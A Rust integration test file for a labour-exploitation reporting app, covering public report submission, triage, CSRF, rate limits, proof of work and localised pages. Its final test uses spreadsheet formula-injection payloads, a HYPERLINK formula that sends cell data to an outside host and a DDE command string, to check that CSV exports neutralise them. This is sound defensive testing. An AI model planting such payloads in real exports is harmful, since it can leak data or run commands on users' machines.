//! The public reporting page and triage, in process: a report sent in each
//! shipped language waits in triage and counts nowhere; accepted it counts,
//! rejected it never does; the rate limits, honeypot, proof of work, size
//! limit and CSRF each refuse as designed; the pages speak the language asked
//! for, with every message present.

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use axum::Router;
use hotspots::serve::{router, AppState, ServeConfig};
use hotspots::store::AuditFilter;
use hotspots::Store;

use crate::support::router::{seed_accounts, send, Answer};

const LANGS: [(&str, &str); 7] = [
    ("en", "en-GB"),
    ("cy", "cy-GB"),
    ("lt", "lt"),
    ("pl", "pl"),
    ("ro", "ro"),
    ("bg", "bg"),
    ("sq", "sq"),
];

/// An empty app with the test accounts and the given gate settings.
fn app_with(config: ServeConfig) -> (Router, Store, AppState) {
    let store = Store::open_in_memory().expect("store");
    seed_accounts(&store);
    let beside = store.try_clone().expect("second connection");
    let state = AppState::new(store, config).expect("state");
    (router(state.clone()), beside, state)
}

fn generous() -> ServeConfig {
    ServeConfig {
        public_per_address_per_hour: 100,
        public_per_minute: 100,
        public_work_bits: 8,
        ..ServeConfig::default()
    }
}

async fn get(app: &Router, uri: &str, cookie: Option<&str>) -> Answer {
    let mut r = Request::get(uri);
    if let Some(c) = cookie {
        r = r.header(header::COOKIE, c);
    }
    send(app.clone(), r.body(Body::empty()).expect("request")).await
}

/// The value of `name="<field>" value="..."` in a page.
fn input_value(html: &str, field: &str) -> String {
    let key = format!(r#"name="{field}" value=""#);
    let start = html
        .find(&key)
        .unwrap_or_else(|| panic!("no {field} in page"))
        + key.len();
    html[start..].split('"').next().expect("value").to_owned()
}

/// What a browser holds after opening the page: the CSRF cookie, the token
/// and the challenge.
struct OpenedForm {
    cookie: String,
    csrf: String,
    challenge: String,
}

async fn open_form(app: &Router, lang: &str) -> OpenedForm {
    let page = get(app, &format!("/report?lang={lang}"), None).await;
    assert_eq!(page.status, StatusCode::OK);
    let set: Vec<&str> = page
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .collect();
    assert_eq!(set.len(), 1, "one cookie, the form's token: {set:?}");
    assert!(
        set[0].starts_with("hs_report=") && set[0].contains("HttpOnly"),
        "{set:?}"
    );
    let cookie = set[0].split(';').next().expect("cookie").to_owned();
    let html = page.text();
    OpenedForm {
        cookie,
        csrf: input_value(&html, "csrf"),
        challenge: input_value(&html, "challenge"),
    }
}

/// The form as a browser sends it once `report.js` has solved the challenge.
fn submission(form: &OpenedForm, lang: &str, fields: &str) -> Request<Body> {
    let nonce = hotspots::access::solve(&form.challenge);
    let body = format!(
        "{fields}&csrf={}&challenge={}&nonce={nonce}&website=",
        form.csrf,
        form.challenge.replace('.', "%2E")
    );
    Request::post(format!("/report?lang={lang}"))
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::COOKIE, &form.cookie)
        .body(Body::from(body))
        .expect("request")
}

const FIELDS: &str = "venue_type=car_wash&postcode=PE13+1AA&observed_on=2024-05-01&indicators=no_ppe&indicators=cash_only&exploitation_type=labour&notes=men+sleeping+in+the+back";

async fn reports_layer(app: &Router) -> serde_json::Value {
    get(
        app,
        "/api/v1/layers/reports",
        Some("hs_session=session-analyst"),
    )
    .await
    .json()
}

/// The audit events of `action`, once every queued one is written (the audit
/// thread writes them in the background).
async fn actions(
    state: &AppState,
    store: &Store,
    action: &str,
) -> Vec<hotspots::store::AuditEntry> {
    state.flush_audit().await;
    store
        .audit(&AuditFilter {
            action: Some(action.into()),
            ..AuditFilter::default()
        })
        .expect("audit")
        .into_iter()
        .map(|r| r.entry)
        .collect()
}

#[tokio::test]
async fn a_report_in_each_language_waits_in_triage_and_counts_nowhere() {
    let (app, beside, state) = app_with(generous());
    for (code, tag) in LANGS {
        let form = open_form(&app, code).await;
        let sent = send(app.clone(), submission(&form, code, FIELDS)).await;
        assert_eq!(
            sent.status,
            StatusCode::SEE_OTHER,
            "{code}: {}",
            sent.text()
        );
        assert_eq!(
            sent.header(header::LOCATION),
            format!("/report?sent=1&lang={code}")
        );
        let thanks = get(&app, &format!("/report?sent=1&lang={code}"), None).await;
        let html = thanks.text();
        assert!(html.contains(&format!(r#"<html lang="{tag}""#)), "{code}");
        assert!(
            html.contains("999") && html.contains("08000 121 700"),
            "{code}: what next"
        );
        assert!(!html.contains("[missing message"), "{code}");
    }
    let queued = beside.public_reports(true).expect("queue");
    assert_eq!(queued.len(), LANGS.len());
    let mut langs: Vec<&str> = queued.iter().map(|r| r.lang.as_str()).collect();
    langs.sort_unstable();
    let mut expected: Vec<&str> = LANGS.iter().map(|(c, _)| *c).collect();
    expected.sort_unstable();
    assert_eq!(langs, expected);
    let record: serde_json::Value = serde_json::from_str(&queued[0].record).expect("record");
    assert_eq!(record["indicators"], "no_ppe;cash_only");
    assert_eq!(record["source"], "public");
    // Nothing counts until triage: no report, no cell.
    assert_eq!(beside.summary().expect("summary").reports, 0);
    assert_eq!(
        reports_layer(&app).await["features"]
            .as_array()
            .map(Vec::len),
        Some(0)
    );
    // Nothing identifies the sender: no actor, no address on the public events.
    let events = actions(&state, &beside, "public_report").await;
    assert_eq!(
        events.iter().filter(|e| e.outcome == "queued").count(),
        LANGS.len()
    );
    assert!(
        events
            .iter()
            .all(|e| e.address.is_none() && e.actor.is_none()),
        "{events:?}"
    );
}

#[tokio::test]
async fn accepted_reports_count_and_rejected_never_do() {
    let (app, beside, state) = app_with(generous());
    for notes in ["first", "second"] {
        let form = open_form(&app, "lt").await;
        let fields = format!(
            "venue_type=other&postcode=PE13+1AA&town=Wisbech&observed_on=2024-05-01&notes={notes}"
        );
        assert_eq!(
            send(app.clone(), submission(&form, "lt", &fields))
                .await
                .status,
            StatusCode::SEE_OTHER
        );
    }
    let queued = beside.public_reports(true).expect("queue");
    let id_of = |notes: &str| {
        queued
            .iter()
            .find(|r| r.record.contains(notes))
            .map(|r| r.id)
            .expect("queued")
    };
    let (first, second) = (id_of("first"), id_of("second"));
    let page = get(&app, "/triage", Some("hs_session=session-tactical")).await;
    assert_eq!(page.status, StatusCode::OK);
    let text = page.text();
    assert!(text.contains(&format!("/triage/{first}/accept")));
    assert!(text.contains("2 reports are waiting.") && !text.contains("No public report"));
    let post = |uri: String, role: &str, body: String| {
        Request::post(uri)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::COOKIE, format!("hs_session=session-{role}"))
            .body(Body::from(body))
            .expect("request")
    };
    // Only tactical and admin decide, and only with the session's token.
    let accept = "venue_type=car_wash&precision=outward&grading=3EP";
    for (role, csrf, want) in [
        ("partnership", "csrf-partnership", StatusCode::FORBIDDEN),
        ("analyst", "csrf-analyst", StatusCode::FORBIDDEN),
        ("tactical", "csrf-analyst", StatusCode::FORBIDDEN),
    ] {
        let a = send(
            app.clone(),
            post(
                format!("/triage/{first}/accept"),
                role,
                format!("{accept}&csrf={csrf}"),
            ),
        )
        .await;
        assert_eq!(a.status, want, "{role}");
    }
    assert_eq!(beside.summary().expect("summary").reports, 0);
    let ok = send(
        app.clone(),
        post(
            format!("/triage/{first}/accept"),
            "tactical",
            format!("{accept}&csrf=csrf-tactical"),
        ),
    )
    .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.text());
    assert_eq!(
        ok.header(header::LOCATION),
        format!("/triage?accepted={first}")
    );
    let no_reason = send(
        app.clone(),
        post(
            format!("/triage/{second}/reject"),
            "tactical",
            "reason=&csrf=csrf-tactical".into(),
        ),
    )
    .await;
    assert_eq!(
        no_reason.status,
        StatusCode::BAD_REQUEST,
        "a rejection says why"
    );
    let rejected = send(
        app.clone(),
        post(
            format!("/triage/{second}/reject"),
            "tactical",
            "reason=duplicate+of+a+helpline+call&csrf=csrf-tactical".into(),
        ),
    )
    .await;
    assert_eq!(rejected.status, StatusCode::SEE_OTHER);
    // Decided once: a second decision changes nothing.
    let again = send(
        app.clone(),
        post(
            format!("/triage/{second}/accept"),
            "tactical",
            format!("{accept}&csrf=csrf-tactical"),
        ),
    )
    .await;
    assert_eq!(
        again.header(header::LOCATION),
        format!("/triage?decided={second}")
    );

    let fc = reports_layer(&app).await;
    let features = fc["features"].as_array().expect("features");
    assert_eq!(features.len(), 1, "the accepted one only");
    let p = &features[0]["properties"];
    assert_eq!(p["report_id"], format!("public-{first}"));
    assert_eq!(p["source"], "public");
    assert_eq!(p["venue_type"], "car_wash", "the venue triage set");
    assert_eq!(p["grading"], "3EP");
    assert_eq!(
        p["geocode_method"], "outward_code",
        "kept to the district: {p}"
    );
    let all = beside.public_reports(false).expect("all");
    let status = |id: i64| all.iter().find(|r| r.id == id).map(|r| r.status.clone());
    assert_eq!(status(first).as_deref(), Some("accepted"));
    assert_eq!(status(second).as_deref(), Some("rejected"));
    // With nothing left, the page says so once (not also "0 reports are waiting").
    let empty = get(&app, "/triage", Some("hs_session=session-tactical"))
        .await
        .text();
    assert!(empty.contains("No public report is waiting.") && !empty.contains("are waiting"));
    assert_eq!(
        all.iter()
            .find(|r| r.id == second)
            .and_then(|r| r.reason.clone())
            .as_deref(),
        Some("duplicate of a helpline call")
    );
    let accepts = actions(&state, &beside, "triage_accept").await;
    assert!(accepts
        .iter()
        .any(|e| e.outcome == "ok" && e.actor.as_deref() == Some("tactical")));
    let rejects = actions(&state, &beside, "triage_reject").await;
    assert!(rejects
        .iter()
        .any(|e| e.outcome == "ok" && e.detail.as_deref() == Some("duplicate of a helpline call")));
}

#[tokio::test]
async fn the_gate_refuses_as_designed() {
    let (app, beside, _) = app_with(ServeConfig {
        public_per_address_per_hour: 3,
        public_per_minute: 100,
        public_work_bits: 12,
        ..ServeConfig::default()
    });
    // Honeypot: thanked, and dropped.
    let form = open_form(&app, "pl").await;
    let mut r = submission(&form, "pl", FIELDS);
    let body = format!(
        "{FIELDS}&csrf={}&challenge={}&nonce={}&website=https%3A%2F%2Fspam.example",
        form.csrf,
        form.challenge,
        hotspots::access::solve(&form.challenge)
    );
    *r.body_mut() = Body::from(body);
    let honeypot = send(app.clone(), r).await;
    assert_eq!(honeypot.status, StatusCode::SEE_OTHER);
    assert_eq!(
        beside.public_reports(false).expect("queue").len(),
        0,
        "honeypot kept nothing"
    );
    // Proof of work: a nonce that does not solve the challenge.
    let form = open_form(&app, "pl").await;
    let wrong = (0..u64::MAX)
        .map(|n| n.to_string())
        .find(|n| hotspots::access::leading_zero_bits(&form.challenge, n) < 12)
        .expect("a wrong nonce");
    let body = format!(
        "{FIELDS}&csrf={}&challenge={}&nonce={wrong}&website=",
        form.csrf, form.challenge
    );
    let unsolved = send(
        app.clone(),
        Request::post("/report?lang=pl")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::COOKIE, &form.cookie)
            .body(Body::from(body))
            .expect("request"),
    )
    .await;
    assert_eq!(unsolved.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(unsolved.text().contains("Sprawdzenie"), "refused in Polish");
    assert_eq!(beside.public_reports(false).expect("queue").len(), 0);
    // CSRF: the form's token without its cookie.
    let form = open_form(&app, "en").await;
    let mut no_cookie = submission(&form, "en", FIELDS);
    no_cookie.headers_mut().remove(header::COOKIE);
    // (the per-address allowance is 3: honeypot, unsolved, this)
    assert_eq!(
        send(app.clone(), no_cookie).await.status,
        StatusCode::FORBIDDEN
    );
    // Rate limit: the fourth from this address waits, with Retry-After.
    let form = open_form(&app, "en").await;
    let limited = send(app.clone(), submission(&form, "en", FIELDS)).await;
    assert_eq!(limited.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(limited
        .header(header::RETRY_AFTER)
        .parse::<u64>()
        .is_ok_and(|s| s > 60));
    assert_eq!(beside.public_reports(false).expect("queue").len(), 0);

    // A fresh server for the rest: a spent challenge and the size limit.
    let (app, beside, state) = app_with(generous());
    let form = open_form(&app, "ro").await;
    assert_eq!(
        send(app.clone(), submission(&form, "ro", FIELDS))
            .await
            .status,
        StatusCode::SEE_OTHER
    );
    let replay = send(app.clone(), submission(&form, "ro", FIELDS)).await;
    assert_eq!(
        replay.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "a challenge counts once"
    );
    assert_eq!(beside.public_reports(false).expect("queue").len(), 1);
    let form = open_form(&app, "ro").await;
    let huge = format!(
        "venue_type=farm&observed_on=2024-05-01&town=Wisbech&notes={}",
        "a".repeat(20_000)
    );
    let too_big = send(app.clone(), submission(&form, "ro", &huge)).await;
    assert_eq!(too_big.status, StatusCode::PAYLOAD_TOO_LARGE);
    // Free text over 2,000 characters (under the size limit): refused beside the field.
    let form = open_form(&app, "ro").await;
    let long = format!(
        "venue_type=farm&observed_on=2024-05-01&town=Wisbech&notes={}",
        "a".repeat(3_000)
    );
    let too_long = send(app.clone(), submission(&form, "ro", &long)).await;
    assert_eq!(too_long.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(too_long.text().contains(r#"id="notes-error""#));
    // Validation: a place that cannot be found, in the page's language.
    let form = open_form(&app, "bg").await;
    let nowhere = send(
        app.clone(),
        submission(
            &form,
            "bg",
            "venue_type=farm&observed_on=2024-05-01&postcode=ZZ99+9ZZ",
        ),
    )
    .await;
    assert_eq!(nowhere.status, StatusCode::UNPROCESSABLE_ENTITY);
    let html = nowhere.text();
    assert!(
        html.contains(r#"id="location-error""#) && html.contains("Не успяхме"),
        "{html}"
    );
    assert!(
        html.contains(r#"value="ZZ99 9ZZ""#),
        "what was typed is kept"
    );
    assert_eq!(beside.public_reports(false).expect("queue").len(), 1);
    // What was refused is audited without an address.
    let events = actions(&state, &beside, "public_report").await;
    assert!(events.iter().any(|e| e.outcome == "too_large"));
    assert!(events.iter().all(|e| e.address.is_none()));
}

/// A browser without JavaScript sends the form as it is, with no nonce. Such
/// a form counts once it was open a few seconds, within a small hourly
/// allowance for all of them; the work stays required when that allowance is
/// 0, and the page then says it needs JavaScript.
#[tokio::test]
async fn a_form_sent_without_javascript_counts_within_its_own_allowance() {
    /// The form as a browser without JavaScript sends it, from `address`
    /// (as a trusted proxy forwards it).
    fn without_script(form: &OpenedForm, fields: &str, address: &str) -> Request<Body> {
        let body = format!(
            "{fields}&csrf={}&challenge={}&nonce=&website=",
            form.csrf, form.challenge
        );
        Request::post("/report?lang=en")
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::COOKIE, &form.cookie)
            .header("x-forwarded-for", address)
            .body(Body::from(body))
            .expect("request")
    }
    let needs_script = "This page needs JavaScript";

    // The default wait: sent at once, it is a script's speed.
    let (app, beside, _) = app_with(generous());
    let page = get(&app, "/report?lang=en", None).await.text();
    assert!(!page.contains(needs_script), "no JavaScript is needed");
    let form = open_form(&app, "en").await;
    let too_soon = send(app.clone(), without_script(&form, FIELDS, "192.0.2.1")).await;
    assert_eq!(too_soon.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        too_soon.text().contains(r#"value="PE13 1AA""#),
        "typed values kept"
    );
    assert_eq!(beside.public_reports(false).expect("queue").len(), 0);

    // No wait, two an hour: one address has a quarter of them (one), so a
    // second from it is told to wait; two addresses' wait in triage, and a
    // third address is told to wait too.
    let (app, beside, state) = app_with(ServeConfig {
        public_unproven_per_hour: 2,
        public_unproven_wait_secs: 0,
        trust_proxy: true,
        ..generous()
    });
    let form = open_form(&app, "en").await;
    let sent = send(app.clone(), without_script(&form, FIELDS, "192.0.2.1")).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.text());
    let form = open_form(&app, "en").await;
    let again = send(app.clone(), without_script(&form, FIELDS, "192.0.2.1")).await;
    assert_eq!(again.status, StatusCode::TOO_MANY_REQUESTS);
    let sent = send(app.clone(), without_script(&form, FIELDS, "198.51.100.7")).await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.text());
    let form = open_form(&app, "en").await;
    let third = send(app.clone(), without_script(&form, FIELDS, "203.0.113.5")).await;
    assert_eq!(third.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(third
        .header(header::RETRY_AFTER)
        .parse::<u64>()
        .is_ok_and(|s| s > 60));
    let html = third.text();
    assert!(
        html.contains("Too many reports") && html.contains(r#"value="PE13 1AA""#),
        "{html}"
    );
    // The same form with the work done still goes: the allowance holds only
    // forms without it.
    let worked = send(app.clone(), submission(&form, "en", FIELDS)).await;
    assert_eq!(worked.status, StatusCode::SEE_OTHER);
    let queued = beside.public_reports(false).expect("queue");
    assert_eq!(queued.len(), 3);
    let record: serde_json::Value = serde_json::from_str(&queued[0].record).expect("record");
    assert_eq!(record["indicators"], "no_ppe;cash_only");
    // Newest first: the worked one, then the two without.
    let without: Vec<bool> = queued.iter().map(|r| r.sent_without_work).collect();
    assert_eq!(without, [false, true, true]);
    // Triage says which came without the work.
    let triage = get(&app, "/triage", Some("hs_session=session-tactical"))
        .await
        .text();
    assert_eq!(
        triage
            .matches(r#"<dd class="without-work">From a browser without JavaScript"#)
            .count(),
        2,
        "{triage}"
    );
    // Triage is not told who sent it, but the audit says how each was paid for.
    let events = actions(&state, &beside, "public_report").await;
    let without: Vec<_> = events
        .iter()
        .filter(|e| {
            e.target
                .as_deref()
                .is_some_and(|t| t.ends_with(", sent without the proof of work"))
        })
        .collect();
    assert_eq!(without.len(), 2, "{events:?}");
    assert!(without.iter().all(|e| e.outcome == "queued"));

    // The work required: an empty nonce is refused, and the page says so.
    let (app, beside, _) = app_with(ServeConfig {
        public_unproven_per_hour: 0,
        public_unproven_wait_secs: 0,
        ..generous()
    });
    let page = get(&app, "/report?lang=en", None).await.text();
    assert!(page.contains(needs_script));
    let form = open_form(&app, "en").await;
    let refused = send(app.clone(), without_script(&form, FIELDS, "192.0.2.1")).await;
    assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(beside.public_reports(false).expect("queue").len(), 0);
}

/// Each page in each language it ships in: the right `lang`, no missing
/// message; the switcher keeps a staff user's choice; `lang` on a page with
/// its own parameters is not one of them.
#[tokio::test]
async fn pages_speak_the_language_asked_for() {
    let (app, _, _) = app_with(generous());
    for (code, tag) in LANGS {
        for (path, cookie) in [
            ("/report", None),
            ("/report?sent=1", None),
            ("/reports/new", Some("hs_session=session-analyst")),
        ] {
            let sep = if path.contains('?') { '&' } else { '?' };
            let page = get(&app, &format!("{path}{sep}lang={code}"), cookie).await;
            assert_eq!(page.status, StatusCode::OK, "{path} {code}");
            let html = page.text();
            assert!(
                html.contains(&format!(r#"<html lang="{tag}""#)),
                "{path} {code}"
            );
            assert!(!html.contains("[missing message"), "{path} {code}");
        }
    }
    // Staff pages ship in English and Welsh; others read them in English.
    for (code, tag) in [("en", "en-GB"), ("cy", "cy-GB"), ("lt", "en-GB")] {
        let page = get(
            &app,
            &format!("/triage?lang={code}"),
            Some("hs_session=session-tactical"),
        )
        .await;
        assert_eq!(page.status, StatusCode::OK);
        let html = page.text();
        assert!(
            html.contains(&format!(r#"<html lang="{tag}""#)),
            "triage {code}"
        );
        assert!(!html.contains("[missing message"));
    }
    let welsh = get(&app, "/triage?lang=cy", Some("hs_session=session-tactical")).await;
    assert!(welsh.text().contains("Brysbennu"));
    // The choice is remembered by staff pages, never set by the public page.
    assert!(welsh.header(header::SET_COOKIE).starts_with("hs_lang=cy"));
    let remembered = get(
        &app,
        "/triage",
        Some("hs_session=session-tactical; hs_lang=cy"),
    )
    .await;
    assert!(remembered.text().contains(r#"<html lang="cy-GB""#));
    let public = get(&app, "/report?lang=cy", None).await;
    assert!(public
        .headers
        .get_all(header::SET_COOKIE)
        .iter()
        .all(|v| v.to_str().is_ok_and(|s| s.starts_with("hs_report="))));
    // Accept-Language picks the first shipped language asked for.
    let asked = send(
        app.clone(),
        Request::get("/report")
            .header(header::ACCEPT_LANGUAGE, "de-DE,sq;q=0.8,en;q=0.5")
            .body(Body::empty())
            .expect("request"),
    )
    .await;
    assert!(asked.text().contains(r#"<html lang="sq""#));
    // `lang` beside a page's own strict parameters is not one of them.
    let towns = get(&app, "/towns?lang=cy", Some("hs_session=session-analyst")).await;
    assert_eq!(towns.status, StatusCode::OK);
    // A problem page in the page's language, its English detail marked so.
    let wrong = get(
        &app,
        "/towns?level=county&lang=cy",
        Some("hs_session=session-analyst"),
    )
    .await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    let html = wrong.text();
    assert!(html.contains(r#"<html lang="cy-GB""#), "{html}");
    assert!(html.contains("<h1>400 Cais gwallus</h1>"), "{html}");
    assert!(html.contains(r#"<span lang="en-GB">"#) && html.contains("county"));
    let english = get(
        &app,
        "/towns?level=county",
        Some("hs_session=session-analyst"),
    )
    .await;
    assert!(english.text().contains("<h1>400 Bad request</h1>"));
    // A signed-in caller's problem page keeps their navigation (their name,
    // sign-out with the session's token, their role's links), in English or
    // Welsh; a signed-out caller's has none.
    for (path, heading) in [
        ("/no/such/page", "<h1>404 Not found</h1>"),
        ("/no/such/page?lang=cy", "<h1>404 Heb ei ganfod</h1>"),
        ("/towns?level=county", "<h1>400 Bad request</h1>"),
    ] {
        let html = get(&app, path, Some("hs_session=session-tactical"))
            .await
            .text();
        assert!(html.contains(heading), "{path}: {html}");
        assert!(
            html.contains(r#"<form class="signout" method="post" action="/signout">"#)
                && html.contains(r#"value="csrf-tactical""#)
                && html.contains(r#"href="/triage""#),
            "{path}: signed in, the navigation: {html}"
        );
        if path.starts_with("/towns") {
            continue; // signed out, sent to sign in
        }
        let signed_out = get(&app, path, None).await.text();
        assert!(signed_out.contains(heading), "{path}: {signed_out}");
        assert!(
            !signed_out.contains("signout") && !signed_out.contains(r#"href="/triage""#),
            "{path}: signed out, no navigation: {signed_out}"
        );
    }
    // On the public page, in its language, with the way back to it; and
    // for anyone signed out who asked for a language only the public page
    // speaks, wherever the link led. The detail that only repeats the
    // heading is not quoted in English beneath it.
    for path in ["/report/nothing-here?lang=lt", "/reprot?lang=lt"] {
        let missing = get(&app, path, None).await;
        assert_eq!(missing.status, StatusCode::NOT_FOUND);
        let html = missing.text();
        assert!(html.contains(r#"<html lang="lt""#), "{path}: {html}");
        assert!(
            html.contains("<h1>404 Nerasta</h1>") && html.contains(r#"href="/report?lang=lt""#),
            "{path}: {html}"
        );
        assert!(
            !html.contains("not found") && !html.contains("signout"),
            "{path}: {html}"
        );
    }
    // Signed in, the staff pages' languages only, with the staff's navigation.
    let staff = get(&app, "/reprot?lang=lt", Some("hs_session=session-tactical")).await;
    let html = staff.text();
    assert!(
        html.contains("<h1>404 Not found</h1>") && html.contains(r#"href="/triage""#),
        "{html}"
    );
}

/// Text a spreadsheet would run as a formula reaches every CSV as text: a
/// member of the public's notes in the reports CSV, a tactical lead's
/// rejection reason in the admin's audit CSV, a file's rows in its rejects
/// CSV (served and written beside the file). Numbers stay numbers, and
/// GeoJSON carries the text as sent.
#[tokio::test]
async fn formulas_reach_every_csv_as_text() {
    let (app, mut beside, _) = app_with(generous());
    let formula = "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")";
    for notes in [formula, "second"] {
        let form = open_form(&app, "en").await;
        let fields = format!(
            "venue_type=car_wash&postcode=PE13+1AA&observed_on=2024-05-01&notes={}",
            urlencoding(notes)
        );
        let sent = send(app.clone(), submission(&form, "en", &fields)).await;
        assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.text());
    }
    let queued = beside.public_reports(true).expect("queue");
    let id_of = |text: &str| {
        (queued.iter())
            .find(|r| r.record.contains(text))
            .map(|r| r.id)
            .expect("queued")
    };
    let (first, second) = (id_of("HYPERLINK"), id_of("second"));
    let decide = |path: String, body: &str| {
        Request::post(path)
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::COOKIE, "hs_session=session-tactical")
            .body(Body::from(format!("{body}&csrf=csrf-tactical")))
            .expect("request")
    };
    let accepted = send(
        app.clone(),
        decide(
            format!("/triage/{first}/accept"),
            "venue_type=car_wash&precision=outward",
        ),
    )
    .await;
    assert_eq!(
        accepted.status,
        StatusCode::SEE_OTHER,
        "{}",
        accepted.text()
    );
    let reason = "@SUM(1+1)*cmd|' /C calc'!A0";
    let rejected = send(
        app.clone(),
        decide(
            format!("/triage/{second}/reject"),
            &format!("reason={}", urlencoding(reason)),
        ),
    )
    .await;
    assert_eq!(
        rejected.status,
        StatusCode::SEE_OTHER,
        "{}",
        rejected.text()
    );

    let csv_rows = |body: &[u8]| -> Vec<std::collections::HashMap<String, String>> {
        let mut reader = csv::Reader::from_reader(body);
        let header = reader.headers().expect("header").clone();
        (reader.records())
            .map(|r| {
                let r = r.expect("row");
                (header.iter().map(str::to_owned))
                    .zip(r.iter().map(str::to_owned))
                    .collect()
            })
            .collect()
    };
    let tactical = Some("hs_session=session-tactical");
    let reports = get(&app, "/api/v1/layers/reports?format=csv", tactical).await;
    assert_eq!(reports.status, StatusCode::OK);
    let rows = csv_rows(&reports.body);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["notes"], format!("'{formula}"));
    let fc = get(&app, "/api/v1/layers/reports", tactical).await.json();
    assert_eq!(fc["features"][0]["properties"]["notes"], formula);

    let audit = get(
        &app,
        "/admin/audit?format=csv",
        Some("hs_session=session-admin"),
    )
    .await;
    assert_eq!(audit.status, StatusCode::OK);
    let rows = csv_rows(&audit.body);
    let entry = (rows.iter())
        .find(|r| r["action"] == "triage_reject")
        .expect("the rejection is audited");
    assert_eq!(entry["detail"], format!("'{reason}"));

    // A file whose bad row starts with a formula, and one at a western
    // longitude: the rejects CSV beside it and the one served say both as
    // text, and the good row's negative longitude stays a number.
    let dir = tempfile::tempdir().expect("dir");
    let file = dir.path().join("sent.csv");
    std::fs::write(
        &file,
        "lng,lat,report_id,observed_on,venue_type\n\
         -1.5491,53.8008,L1,2024-03-01,car_wash\n\
         -1.5491,north,L2,2024-03-01,car_wash\n\
         =1+1,53.8,L3,2024-03-01,car_wash\n",
    )
    .expect("write");
    let loaded = hotspots::load(
        &mut beside,
        hotspots::Input::Path(file),
        &hotspots::LoadOptions::default(),
        None,
    )
    .expect("load");
    assert_eq!((loaded.counts.stored, loaded.counts.rejected), (1, 2));
    let beside_file = std::fs::read(loaded.rejects_csv.expect("rejects file")).expect("read");
    let run = beside.runs(None, 1).expect("runs")[0].run_id;
    let served = get(&app, &format!("/loads/{run}/rejects.csv"), tactical).await;
    assert_eq!(served.status, StatusCode::OK);
    for (what, body) in [
        ("beside the file", &beside_file[..]),
        ("served", &served.body[..]),
    ] {
        let rows = csv_rows(body);
        let raws: Vec<&str> = rows.iter().map(|r| r["raw"].as_str()).collect();
        assert_eq!(
            raws,
            [
                "'-1.5491,north,L2,2024-03-01,car_wash",
                "'=1+1,53.8,L3,2024-03-01,car_wash"
            ],
            "{what}"
        );
        assert_eq!(rows[1]["line"], "4", "{what}");
    }
    let csv = get(
        &app,
        "/api/v1/layers/reports?format=csv&from=2024-01-01&to=2024-12-31",
        tactical,
    )
    .await;
    let rows = csv_rows(&csv.body);
    let leeds = (rows.iter())
        .find(|r| r["report_id"] == "L1")
        .unwrap_or_else(|| panic!("L1 in {rows:?}"));
    assert_eq!(leeds["lng"].parse::<f64>().ok(), Some(-1.5491));

    // A register's names and addresses, in the premises CSV.
    let register = "premises_id,name,address,venue_type,lat,lng\n\
                    P1,=Wash(1),+44 Kirkgate,car_wash,53.8008,-1.5491\n";
    hotspots::ingest::import_premises(
        &mut beside,
        hotspots::Input::Reader {
            name: "register.csv".into(),
            reader: Box::new(std::io::Cursor::new(register.as_bytes().to_vec())),
        },
        &hotspots::LoadOptions {
            no_rejects_file: true,
            ..hotspots::LoadOptions::default()
        },
    )
    .expect("register");
    hotspots::premises::relink(&mut beside, None).expect("relink");
    let premises = get(&app, "/api/v1/premises?format=csv&min_reports=1", tactical).await;
    assert_eq!(premises.status, StatusCode::OK, "{}", premises.text());
    let rows = csv_rows(&premises.body);
    let p1 = (rows.iter())
        .find(|r| r["premises_id"] == "P1")
        .unwrap_or_else(|| panic!("P1 in {rows:?}"));
    assert_eq!(
        (p1["name"].as_str(), p1["address"].as_str()),
        ("'=Wash(1)", "'+44 Kirkgate")
    );
    assert_eq!(p1["lng"].parse::<f64>().ok(), Some(-1.5491));
}

/// `value` as a form sends it.
fn urlencoding(value: &str) -> String {
    serde_urlencoded::to_string([("v", value)]).expect("encode")[2..].to_owned()
}
